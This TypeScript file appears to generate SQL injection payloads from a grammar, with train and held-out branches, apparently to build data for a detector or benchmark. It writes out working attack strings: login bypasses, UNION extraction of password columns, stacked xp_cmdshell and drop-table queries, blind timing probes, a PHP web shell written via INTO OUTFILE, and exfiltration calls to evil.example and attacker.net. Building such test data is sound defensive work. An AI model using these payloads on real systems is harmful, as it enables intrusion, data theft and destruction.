/**
 * SQL injection payloads from a grammar written for Helios: an injection point (string or numeric
 * context), a body (tautology, UNION, stacked query, blind, error-based, probing, bypass, inline
 * query) and a tail (comments, null bytes), then optional filter evasions (case, comment spaces,
 * encodings). Held-out branches (see Branches) are functions, tables and shapes left for evaluation.
 */
import { type Branches, type Chooser, hexLiteral } from "./grammar";

const CONTEXTS = ["", "1", "2", "10", "-1", "0", "999", "admin", "test", "x", "abc", "1337", "john", "99999"];
const CLOSERS: Branches<string> = {
  train: ["'", '"', "')", '")', "'))", "1'", "1)", "1))", "", "`", "')))"],
  held: ['")) ', "%' ", "') ", "'\""],
};
const SPACE: Branches<string> = {
  train: [" ", "/**/", "+", "%20", "\t", "\n", "%0a"],
  held: ["/*x*/", "%09", "%0d%0a"],
};
const COMMENTS: Branches<string> = {
  train: ["--", "-- -", "#", "/*", ";--", "-- ", ";%00", "%23", "--+", ""],
  held: ["--+-", ";#", "%2d%2d", "/*!*/"],
};
const TAUTOLOGIES: Branches<string> = {
  train: [
    "1=1",
    "'1'='1",
    "'a'='a",
    "2>1",
    "true",
    "1",
    "'x'='x",
    "1 like 1",
    "3-2=1",
    "'1'<>'2",
    "not false",
    "1=1 and 1=1",
    "0<1",
    "ascii('a')=97",
  ],
  held: ["'b'='b", "5=5", "'z' like 'z", "4 between 1 and 5", "1 in (1,2)"],
};
const TABLES: Branches<string> = {
  train: [
    "users",
    "admin",
    "accounts",
    "members",
    "customers",
    "information_schema.tables",
    "mysql.user",
    "sysobjects",
    "pg_user",
    "login",
    "user",
    "passwords",
    "dual",
    "all_tables",
  ],
  held: ["employees", "sys.tables", "information_schema.columns", "sqlite_master", "staff"],
};
const COLUMNS: Branches<string> = {
  train: [
    "username",
    "password",
    "user",
    "pass",
    "email",
    "table_name",
    "column_name",
    "name",
    "passwd",
    "login",
    "id",
    "credit_card",
  ],
  held: ["pwd", "hash", "secret", "schema_name"],
};
const VALUE_FUNCTIONS: Branches<string> = {
  train: [
    "@@version",
    "version()",
    "user()",
    "database()",
    "current_user",
    "system_user",
    "@@hostname",
    "schema()",
    "banner from v$version",
    "db_name()",
    "sqlite_version()",
    "current_database()",
    "session_user",
    "@@datadir",
  ],
  held: ["@@servername", "suser_name()", "version from v$instance", "connection_id()"],
};
const STACKED: Branches<(c: Chooser) => string> = {
  train: [
    (c) => `drop table ${c.branch(TABLES)}`,
    (c) => `delete from ${c.branch(TABLES)}`,
    (c) => `insert into ${c.branch(TABLES)} values ('hacker','${c.pick(["pass", "123", "x"])}')`,
    (c) => `update ${c.branch(TABLES)} set ${c.branch(COLUMNS)}='x' where 1=1`,
    () => "shutdown",
    (c) => `exec master..xp_cmdshell '${c.pick(["dir", "whoami", "ping 10.0.0.1", "net user"])}'`,
    (c) => `exec xp_cmdshell '${c.pick(["dir c:\\", "ipconfig", "type c:\\boot.ini"])}'`,
    (c) => `select ${c.branch(VALUE_FUNCTIONS)}`,
    (c) => `truncate table ${c.branch(TABLES)}`,
    () => "declare @q varchar(8000) select @q = 0x73656c656374 exec(@q)",
    (c) => `create user ${c.pick(["hacker", "evil", "x"])} identified by 'p'`,
    () => "alter table users add admin int",
  ],
  held: [
    () => "exec sp_configure 'show advanced options',1",
    (c) => `grant all privileges on *.* to '${c.pick(["x", "evil"])}'@'%'`,
    () => "copy (select '') to program 'id'",
  ],
};
const SLEEPS: Branches<(n: number) => string> = {
  train: [
    (n) => `sleep(${n})`,
    (n) => `benchmark(${n}000000,md5(1))`,
    (n) => `(select sleep(${n}))`,
    (n) => `(select * from (select(sleep(${n})))a)`,
    (n) => `if(1=1,sleep(${n}),0)`,
    (n) => `pg_sleep(${n})`,
  ],
  held: [
    (n) => `dbms_pipe.receive_message(('a'),${n})`,
    (n) => `randomblob(${n}00000000)`,
    (n) => `benchmark(${n}000000,sha1('x'))`,
  ],
};
const ERROR_FUNCTIONS: Branches<(v: string) => string> = {
  train: [
    (v) => `extractvalue(1,concat(0x7e,(select ${v}),0x7e))`,
    (v) => `convert(int,(select ${v}))`,
    (v) => `cast((select ${v}) as int)`,
    (v) =>
      `(select 1 from(select count(*),concat((select ${v}),floor(rand(0)*2))x from information_schema.tables group by x)a)`,
    (v) => `exp(~(select * from (select ${v})a))`,
  ],
  held: [(v) => `updatexml(1,concat(0x7e,(select ${v})),1)`, (v) => `ctxsys.drithsx.sn(1,(select ${v}))`],
};

function blank(c: Chooser): string {
  return c.branch(SPACE);
}

/** Joins words with one evasion style for the whole payload. */
function words(c: Chooser, parts: readonly string[]): string {
  const space = c.chance(0.7) ? " " : blank(c);
  return parts.filter((p) => p.length > 0).join(space);
}

function keyword(c: Chooser, word: string): string {
  if (c.chance(0.15)) return c.mixCase(word);
  if (c.chance(0.05)) return `/*!${word}*/`;
  return c.chance(0.3) ? word.toUpperCase() : word;
}

function columnsList(c: Chooser): string {
  const count = c.int(1, 8);
  const filler = c.pick(["null", "1", "'a'", "0x41"]);
  const items = Array.from({ length: count }, (_, i) => (c.chance(0.5) ? filler : String(i + 1)));
  items[c.int(0, count - 1)] = c.pick([
    c.branch(VALUE_FUNCTIONS),
    `concat(${c.branch(COLUMNS)},0x3a,${c.branch(COLUMNS)})`,
    `group_concat(${c.branch(COLUMNS)})`,
    c.branch(COLUMNS),
    `load_file('/etc/passwd')`,
    `${c.branch(COLUMNS)}||':'||${c.branch(COLUMNS)}`,
  ]);
  return items.join(",");
}

/** The families of the grammar; each draws one payload body (without context or tail). */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  tautology: (c) =>
    words(c, [keyword(c, c.pick(["or", "or", "and", "||", "OR", "xor"])), c.branch(TAUTOLOGIES)]),
  union: (c) =>
    words(c, [
      keyword(c, "union"),
      c.chance(0.4) ? keyword(c, c.pick(["all", "distinct"])) : "",
      keyword(c, "select"),
      columnsList(c),
      c.chance(0.5) ? `${keyword(c, "from")} ${c.branch(TABLES)}` : "",
    ]),
  stacked: (c) => `;${c.chance(0.5) ? " " : ""}${c.branch(STACKED)(c)}`,
  timeBlind: (c) => {
    const n = c.int(1, 30);
    if (c.chance(0.25)) return words(c, [";", keyword(c, "waitfor"), keyword(c, "delay"), `'0:0:${n}'`]);
    return words(c, [keyword(c, c.pick(["and", "or", "and", "||"])), c.branch(SLEEPS)(n)]);
  },
  errorBased: (c) =>
    words(c, [keyword(c, c.pick(["and", "or"])), c.branch(ERROR_FUNCTIONS)(c.branch(VALUE_FUNCTIONS))]),
  booleanBlind: (c) => {
    const sub = `(select ${c.branch(COLUMNS)} from ${c.branch(TABLES)} limit 1)`;
    const probe = c.pick([
      `ascii(substring(${sub},${c.int(1, 20)},1))>${c.int(32, 126)}`,
      `substr(${c.branch(VALUE_FUNCTIONS)},1,1)='${c.int(1, 9)}'`,
      `length(${c.branch(VALUE_FUNCTIONS)})>${c.int(1, 40)}`,
      `(select count(*) from ${c.branch(TABLES)})>0`,
      `mid(${c.branch(VALUE_FUNCTIONS)},1,1)=char(${c.int(48, 57)})`,
      `exists(select * from ${c.branch(TABLES)})`,
    ]);
    return words(c, [keyword(c, c.pick(["and", "or", "and"])), probe]);
  },
  probing: (c) =>
    c.pick([
      words(c, [keyword(c, "order"), keyword(c, "by"), String(c.int(1, 30))]),
      words(c, [keyword(c, "group"), keyword(c, "by"), c.branch(COLUMNS), keyword(c, "having"), "1=1"]),
      words(c, [keyword(c, "having"), "1=1"]),
      words(c, [keyword(c, "procedure"), "analyse()"]),
      words(c, ["and", "1=0", keyword(c, "union"), keyword(c, "select"), columnsList(c)]),
    ]),
  bypass: (c) =>
    c.pick([
      `${c.pick(["admin", "administrator", "root", "user", ""])}'${c.pick(["--", " --", "#", "/*", " or '1'='1", " or 1=1--", "='"])}`,
      `' or ''='`,
      `'='`,
      `'or'1'='1`,
      `" or ""="`,
      `') or ('a'='a`,
      `' or 1=1 limit 1 --`,
      `1' or '1'='1'))/*`,
      `' or username like '%`,
      `admin' and password like '%`,
    ]),
  inlineQuery: (c) =>
    c.pick([
      `${keyword(c, "select")} * ${keyword(c, "from")} ${c.branch(TABLES)} ${keyword(c, "where")} ${c.branch(COLUMNS)}='${c.pick(["admin", "x", "1"])}'`,
      `${keyword(c, "select")} ${c.branch(COLUMNS)},${c.branch(COLUMNS)} ${keyword(c, "from")} ${c.branch(TABLES)}`,
      `${keyword(c, "select")} ${c.branch(VALUE_FUNCTIONS)}`,
      `${keyword(c, "insert")} ${keyword(c, "into")} ${c.branch(TABLES)} (${c.branch(COLUMNS)}) ${keyword(c, "values")} ('x')`,
      `${keyword(c, "select")} ${keyword(c, "char")}(${Array.from({ length: c.int(3, 8) }, () => c.int(65, 122)).join(",")})`,
      `${keyword(c, "select")} ${hexLiteral(c.pick(["admin", "root", "passwd"]))}`,
      `${keyword(c, "drop")} ${keyword(c, "table")} ${c.branch(TABLES)}`,
    ]),
  fileAccess: (c) =>
    c.pick([
      words(c, [
        keyword(c, "union"),
        keyword(c, "select"),
        `load_file('${c.pick(["/etc/passwd", "c:/boot.ini", "/var/www/config.php"])}')`,
      ]),
      words(c, [
        keyword(c, "union"),
        keyword(c, "select"),
        "'<?php system($_GET[c]); ?>'",
        keyword(c, "into"),
        keyword(c, "outfile"),
        `'/var/www/${c.pick(["shell", "x", "c"])}.php'`,
      ]),
      words(c, [
        ";",
        keyword(c, "select"),
        "utl_http.request('http://evil.example/'||(select user from dual))",
        "from",
        "dual",
      ]),
      words(c, [
        keyword(c, "and"),
        `(select load_file(concat('\\\\\\\\',(select ${c.branch(VALUE_FUNCTIONS)}),'.attacker.net\\\\a')))`,
      ]),
    ]),
};

/** The SQL injection families, by name. */
export const SQLI_FAMILIES = Object.keys(FAMILIES);

/** One SQL injection payload of the given family. */
export function sqliPayload(c: Chooser, family: string): string {
  const body = FAMILIES[family]!(c);
  if (family === "bypass" || family === "inlineQuery") return body;
  const context = c.chance(0.6) ? c.pick(CONTEXTS) : "";
  const closer = c.branch(CLOSERS);
  const tail = c.chance(0.7) ? c.branch(COMMENTS) : "";
  const lead = closer.length > 0 && !body.startsWith(";") ? (c.chance(0.8) ? " " : blank(c)) : "";
  return `${context}${closer}${lead}${body}${tail && c.chance(0.3) ? " " : ""}${tail}`;
}
